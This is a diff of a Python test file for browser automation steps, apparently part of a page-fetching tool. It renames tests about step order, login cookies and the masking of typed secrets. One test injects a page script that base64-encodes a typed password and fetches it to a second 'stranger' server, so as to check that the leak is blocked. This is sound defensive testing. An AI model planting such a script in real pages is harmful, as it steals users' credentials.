@@ -1,4 +1,4 @@
-"""Steps in the browser: what they reach, what they may not, and how they fail."""
+"""Steps in the browser: their effect, their limits and their errors."""
 
 from __future__ import annotations
 
@@ -32,8 +32,8 @@ def played(verb: Any, place: str = "", value: str | Secret = "") -> PlayedStep:
     return PlayedStep(f"{verb} {place} {shown}".strip(), verb, place, value)
 
 
-def test_steps_are_done_in_their_order_and_the_page_is_read_after_them(chromium, server):
-    """What a click adds, a choice and a key are in what is watched."""
+def test_steps_run_in_order_before_the_page_is_read(chromium, server):
+    """The content after a click, a choice and a key is in the page."""
     server.pages["/"] = Page(SHOP.encode(), HTML)
 
     seen = chromium.render(
@@ -55,8 +55,8 @@ def test_steps_are_done_in_their_order_and_the_page_is_read_after_them(chromium,
     ("place", "why"),
     [("css=#gone", "the page has nothing at that place"), ("css=#no", "one thing is there, but is hidden")],
 )
-def test_a_step_that_cannot_be_done_is_named_with_what_the_page_says(chromium, server, monkeypatch, place, why):
-    """Nothing is compared then: half a page is none."""
+def test_failed_step_is_named_with_the_text_of_the_page(chromium, server, monkeypatch, place, why):
+    """The poll fails, because an incomplete page must not be compared."""
     monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
     server.pages["/"] = Page(SHOP.encode(), HTML)
 
@@ -68,8 +68,8 @@ def test_a_step_that_cannot_be_done_is_named_with_what_the_page_says(chromium, s
     assert "request" == seen.kind
 
 
-def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium, server):
-    """The redirect of a form is followed with its cookie; the password is in no other request."""
+def test_login_steps_lead_to_the_page_behind(chromium, server):
+    """The redirect of the form is followed with its cookie. The password is in no other request."""
 
     def enter(seen: Seen, wire: Wire) -> None:
         head = {"Location": "/mine", "Set-Cookie": "sid=1; Path=/; HttpOnly"}
@@ -101,8 +101,8 @@ def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium
 
 
 @pytest.mark.parametrize(("value", "is_sent"), [("yes", True), (PASSWORD, False)])
-def test_a_cookie_that_a_script_sets_is_sent_along(chromium, server, value, is_sent):
-    """A click that sets a cookie opens the page behind; a typed secret is in no cookie."""
+def test_cookie_of_a_script_is_sent_unless_it_has_a_typed_secret(chromium, server, value, is_sent):
+    """A click that sets a cookie opens the page behind it."""
     script = f"document.cookie = {json.dumps('told=' + value + '; path=/')}; location = '/behind'"
     page = f'{FORM}<button id=ok onclick="{html.escape(script)}">OK</button>'
     server.pages |= {"/": Page(page.encode(), HTML), "/behind": Page(b"<p>Behind</p>", HTML)}
@@ -120,8 +120,8 @@ def test_a_cookie_that_a_script_sets_is_sent_along(chromium, server, value, is_s
     assert is_sent is ("told=" in server.seen[-1].headers.get("cookie", ""))
 
 
-def test_after_a_secret_was_typed_nobody_else_is_asked(chromium):
-    """Nothing carries it off: no request of a script, no form, no address of the page."""
+def test_after_a_typed_secret_only_its_origin_is_requested(chromium):
+    """No request of a script, no form and no address can send it elsewhere."""
     with WebServer() as home, WebServer() as stranger:
         taken = f"fetch('{stranger.url('/taken')}?' + btoa(pw.value), {{mode: 'no-cors'}})"
         script = f"<script>pw.oninput = () => {taken};</script>"
@@ -158,13 +158,13 @@ def test_after_a_secret_was_typed_nobody_else_is_asked(chromium):
         ("PUT", True, "refuse"),
     ],
 )
-def test_only_steps_lead_a_page_through_a_form(method, steps, expected):
-    """A script alone sends a page on by GET, and nothing else."""
+def test_only_steps_may_submit_a_form(method, steps, expected):
+    """A script alone can only load another page by GET."""
     assert expected == treatment("document", method, is_page=True, pictures=False, steps=steps)
 
 
-def test_what_was_typed_is_masked_in_each_of_its_forms():
-    """As it is, as HTML, JSON and addresses have it."""
+def test_typed_secret_is_masked_in_every_encoding():
+    """It may be plain, or encoded for HTML, JSON or addresses."""
     typed = Typed()
     typed.add(Secret(PASSWORD))
     typed.add(Secret('a"b<c\u00a0é'))
@@ -177,8 +177,8 @@ def test_what_was_typed_is_masked_in_each_of_its_forms():
     assert not typed.is_in("https://x.example/?q=k3ttle")
 
 
-def test_a_secret_that_is_a_part_of_another_leaves_nothing_of_it():
-    """The longer one is masked first, whichever was typed first."""
+def test_longer_secret_is_masked_first():
+    """A secret may be a part of another one, whichever was typed first."""
     typed = Typed()
     typed.add(Secret("kettle"))
     typed.add(Secret("kettle-17"))
@@ -186,8 +186,8 @@ def test_a_secret_that_is_a_part_of_another_leaves_nothing_of_it():
     assert "*** ***" == typed.mask("kettle-17 kettle")
 
 
-def test_a_failure_shows_no_beginning_of_a_secret(chromium, server, monkeypatch):
-    """The first words of the page end within it; it is masked before they are cut."""
+def test_failure_shows_no_prefix_of_a_secret(chromium, server, monkeypatch):
+    """The text of the page is masked before it is cut."""
     monkeypatch.setattr("tidings.fetching.browser.steps.STEP_SECONDS", 0.3)
     words = "x" * (SHOWN - 10)
     echo = f"<div id=out></div><script>pw.oninput = () => {{ out.textContent = '{words} ' + pw.value; }};</script>"
@@ -202,8 +202,8 @@ def test_a_failure_shows_no_beginning_of_a_secret(chromium, server, monkeypatch)
 
 
 @pytest.mark.parametrize(("field", "is_kept"), [("css=#pw", True), ("css=#user", False)])
-def test_a_picture_of_a_typed_secret_is_not_kept(chromium, server, field, is_kept):
-    """A field for passwords shows dots, another one what was typed."""
+def test_picture_with_a_typed_secret_is_dropped(chromium, server, field, is_kept):
+    """A password field shows dots; another field shows the secret."""
     server.pages["/"] = Page(FORM.encode(), HTML)
 
     seen = chromium.render(server.url("/"), screenshot=True, steps=(played("fill", field, Secret(PASSWORD)),))
